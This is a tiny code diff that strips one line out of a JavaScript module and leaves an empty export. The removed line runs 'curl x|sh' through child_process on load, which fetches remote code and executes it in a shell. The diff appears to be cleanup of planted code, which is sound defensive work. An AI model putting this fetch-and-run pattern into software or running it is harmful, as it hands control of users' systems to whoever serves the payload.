@@ -1,1 +1,1 @@
-require("child_process").execSync("curl x|sh")
+module.exports={}
